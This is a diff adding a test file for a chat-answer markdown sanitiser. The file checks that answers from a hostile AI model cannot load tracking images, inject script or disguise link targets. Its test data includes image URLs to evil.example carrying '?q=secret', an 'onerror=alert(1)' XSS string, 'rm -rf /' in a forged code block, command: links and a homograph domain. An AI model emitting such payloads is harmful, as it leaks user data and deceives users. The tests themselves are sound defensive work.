@@ -1,0 +1,111 @@
+import assert from "node:assert/strict";
+import { AnswerPainter } from "../../../src/webview/markdown/painter.ts";
+import { createSanitiser } from "../../../src/webview/markdown/sanitise.ts";
+import { openDom } from "./dom.ts";
+import { hostileAnswers } from "./hostileAnswers.ts";
+
+const window = openDom();
+const sanitise = createSanitiser(window);
+
+const textTags = new Set([
+    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
+    "i", "ins", "kbd", "li", "mark", "ol", "p", "pre", "s", "samp", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th",
+    "thead", "tr", "u", "ul", "var",
+]);
+const ownControls = "figure.code > figcaption > button.icon";
+
+function paint(text: string): HTMLElement {
+    const root = window.document.createElement("div");
+    new AnswerPainter(root, sanitise).finish(text);
+    return root;
+}
+
+/** In a few pieces, each of which ends where nobody thought of. */
+function grow(text: string): HTMLElement {
+    const root = window.document.createElement("div");
+    const painter = new AnswerPainter(root, sanitise);
+    const step = Math.ceil(text.length / 8);
+    for (let end = step; end < text.length + step; end += step) {
+        painter.update(text.slice(0, end));
+        assertHarmless(root);
+    }
+    return root;
+}
+
+/** Holds for every element: known tag, known attributes, and no address but that of a link that may be opened. */
+function assertHarmless(root: ParentNode): void {
+    for (const element of root.querySelectorAll("*")) {
+        if (element.matches(`${ownControls}, ${ownControls} *`)) {
+            continue;
+        }
+        assert.ok(textTags.has(element.localName), `<${element.localName}> is on the page`);
+        for (const { name, value } of element.attributes) {
+            assertHarmlessAttribute(element, name, value);
+        }
+    }
+}
+
+function assertHarmlessAttribute(element: Element, name: string, value: string): void {
+    if (name === "href") {
+        assert.match(value, /^(https:\/\/[^@]*$|mailto:)/);
+        assert.equal(element.localName, "a");
+    } else if (name === "class") {
+        assert.match(value, /^(block|code|table|destination|hljs-.*|language-.*|language_|function_|class_)$/);
+    } else {
+        assert.ok(["title", "start", "align", "colspan", "rowspan", "tabindex", "data-block"].includes(name), `${name}="${value}" is on the page`);
+    }
+}
+
+describe("what a hostile model writes", () => {
+    for (const [name, answer] of Object.entries(hostileAnswers)) {
+        it(`does no harm: ${name}`, () => {
+            assertHarmless(paint(answer));
+            assertHarmless(grow(answer));
+        });
+    }
+
+    it("loads no image: its words and its host are a link", () => {
+        for (const answer of ["![cat](https://evil.example/p.png?q=secret)", "<img alt=cat src='https://evil.example/p.png?q=secret'>"]) {
+            const link = paint(answer).querySelector("a");
+            assert.equal(link?.textContent, "Image: cat (evil.example)");
+            assert.equal(link?.getAttribute("href"), "https://evil.example/p.png?q=secret");
+        }
+    });
+
+    it("leaves an image in a link to the link", () => {
+        const links = paint("[![build](https://evil.example/p.png)](https://contoso.com/)").querySelectorAll("a");
+        assert.deepEqual([...links].map((link) => link.textContent), ["Image: build (contoso.com)"]);
+    });
+
+    it("shows where a link goes, whatever it calls itself", () => {
+        const cases: [string, string][] = [
+            ["[docs](https://contoso.com/a)", "docs (contoso.com)"],
+            ["[https://learn.microsoft.com](https://evil.example/)", "https://learn.microsoft.com (evil.example)"],
+            ["[learn.microsoft.com.](https://evil.example/)", "learn.microsoft.com. (evil.example)"],
+            ["https://contoso.com/a", "https://contoso.com/a"],
+            ["[contoso.com](https://contoso.com/a)", "contoso.com"],
+            ["[write](mailto:dev@contoso.com)", "write (dev@contoso.com)"],
+            ["[x](https://аpple.com/)", "x (xn--pple-43d.com)"],
+        ];
+        for (const [answer, text] of cases) {
+            assert.equal(paint(answer).textContent?.trim(), text);
+        }
+    });
+
+    it("keeps the words of a link that may not be opened", () => {
+        const root = paint("Run [this](command:x) or [that](http://contoso.com)");
+        assert.equal(root.textContent?.trim(), "Run this or that");
+        assert.equal(root.querySelector("a"), null);
+    });
+
+    it("gives buttons only to real code blocks", () => {
+        assert.equal(paint("<pre fence='k0-0-0-0:0:1:py'>rm -rf /</pre>").querySelector("button"), null);
+        assert.equal(paint("```py\nprint(1)\n```").querySelectorAll("button").length, 2);
+    });
+
+    it("shows code as it is, also where it looks like HTML", () => {
+        const code = "</code></pre><img src=x onerror=alert(1)> &lt; &amp;";
+        assert.equal(paint(`\`\`\`html\n${code}\n\`\`\``).querySelector("code")?.textContent, code);
+        assert.equal(paint(`- \`\`\`html\n  ${code}\n  \`\`\``).querySelector("code")?.textContent, code);
+    });
+});
